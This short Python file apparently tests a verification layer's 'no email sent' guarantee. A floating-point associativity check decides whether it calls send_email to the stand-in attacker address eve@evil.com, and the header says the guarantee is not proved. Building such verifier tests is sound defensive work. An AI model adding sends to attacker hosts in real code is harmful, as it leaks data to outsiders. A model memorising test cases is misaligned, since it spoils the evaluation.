# not proved: the sum depends on the order
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if (0.1 + 0.2) + 0.3 != 0.1 + (0.2 + 0.3):
        send_email("eve@evil.com", "x")
